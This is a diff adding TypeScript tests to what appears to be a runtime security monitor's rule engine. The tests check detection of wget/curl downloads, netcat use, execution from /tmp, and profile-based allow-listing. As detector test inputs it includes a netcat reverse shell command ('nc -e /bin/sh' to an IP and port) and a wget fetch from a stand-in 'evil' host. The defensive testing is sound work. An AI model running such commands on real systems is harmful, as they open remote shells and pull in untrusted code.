@@ -127,6 +127,96 @@ describe('built-in catalog', () => {
   });
 });
 
+describe('remote copy: wget and curl write a file, or they do not', () => {
+  const wget = (...args: string[]) =>
+    ids(started({ pid: 8, name: 'wget', exe: '/bin/busybox', args: ['wget', ...args] }));
+  const curl = (...args: string[]) =>
+    ids(started({ pid: 8, name: 'curl', exe: '/usr/bin/curl', args: ['curl', ...args] }));
+  it('stdout and /dev/null are not a download (health checks)', () => {
+    for (const args of [
+      ['-q', '-O', '/dev/null', 'http://127.0.0.1:8080/'],
+      ['-qO', '/dev/null', 'http://127.0.0.1:8080/'],
+      ['-qO-', 'http://127.0.0.1:8080/'],
+      ['-O-', 'http://x/'],
+      ['--output-document=/dev/null', 'http://x/'],
+      ['--output-document', '-', 'http://x/'],
+      ['--spider', 'http://x/'],
+      ['-q', '-O', '/dev/stdout', 'http://x/'],
+    ])
+      expect(wget(...args), args.join(' ')).toEqual([]);
+    for (const args of [
+      ['-s', 'http://x/'],
+      ['-o', '/dev/null', 'http://x/'],
+      ['-so', '/dev/null', 'http://x/'],
+      ['--output=-', 'http://x/'],
+    ])
+      expect(curl(...args), args.join(' ')).toEqual([]);
+  });
+  it('a file is: -O FILE, grouped flags, the URL name by default', () => {
+    for (const args of [
+      ['http://x/payload'],
+      ['-q', 'http://x/payload'],
+      ['-O', '/tmp/p', 'http://x/'],
+      ['-qO/tmp/p', 'http://x/'],
+      ['--output-document=/tmp/p', 'http://x/'],
+    ])
+      expect(wget(...args), args.join(' ')).toEqual(['remote-copy-tool']);
+    for (const args of [
+      ['-O', 'http://x/p'],
+      ['-sO', 'http://x/p'],
+      ['--remote-name', 'http://x/p'],
+      ['-o', '/tmp/p', 'http://x/'],
+      ['-so/tmp/p', 'http://x/'],
+    ])
+      expect(curl(...args), args.join(' ')).toEqual(['remote-copy-tool']);
+  });
+});
+
+describe('the profile and the built-in rules', () => {
+  const profile = Profile.parse({
+    apiVersion: 'sealwatch.dev/v1',
+    kind: 'Profile',
+    processes: [
+      { exe: '/bin/busybox', name: 'nc' },
+      { exe: '/bin/busybox', name: 'wget', args: '^-q -O /tmp/cache ' },
+      { exe: '/tmp/tool' },
+    ],
+  });
+  const eng = createRuleEngine(allRules(profile), { profile });
+  it('an entry allows the program it lists: rules about which program runs are quiet for it', () => {
+    expect(ids(started({ pid: 1, name: 'nc', exe: '/bin/busybox', args: ['nc', '-l', '-p', '9000'] }), eng)).toEqual(
+      [],
+    );
+    expect(ids(started({ pid: 1, name: 'nc', exe: '/bin/busybox', args: ['nc', '-l', '-p', '9000'] }))).toEqual([
+      'suspicious-network-tool',
+    ]);
+    // the entry's arguments must match too
+    const cached = ['wget', '-q', '-O', '/tmp/cache', 'http://x/'];
+    expect(ids(started({ pid: 1, name: 'wget', exe: '/bin/busybox', args: cached }), eng)).toEqual([]);
+    expect(ids(started({ pid: 1, name: 'wget', exe: '/bin/busybox', args: ['wget', 'http://evil/x'] }), eng)).toEqual([
+      'profile.exe-not-allowed',
+      'remote-copy-tool',
+    ]);
+  });
+  it('rules about how a program behaves fire whatever the profile lists', () => {
+    expect(
+      ids(started({ pid: 1, name: 'nc', exe: '/bin/busybox', args: ['nc', '-e', '/bin/sh', '10.0.0.1', '4444'] }), eng),
+    ).toEqual(['reverse-shell']);
+    expect(ids(started({ pid: 1, name: 'tool', exe: '/tmp/tool', args: ['tool'] }), eng)).toEqual(['exec-from-tmp']);
+  });
+  it('the catalog says which rules a profile entry quiets', () => {
+    const allowed = BUILTIN_RULES.filter((r) => r.meta.allowedByProfile).map((r) => r.meta.id);
+    expect(allowed.sort()).toEqual([
+      'cron-activity',
+      'kubernetes-client',
+      'package-manager-at-runtime',
+      'remote-copy-tool',
+      'sshd-running',
+      'suspicious-network-tool',
+    ]);
+  });
+});
+
 describe('profile drift and custom rules', () => {
   const profile = Profile.parse({
     apiVersion: 'sealwatch.dev/v1',
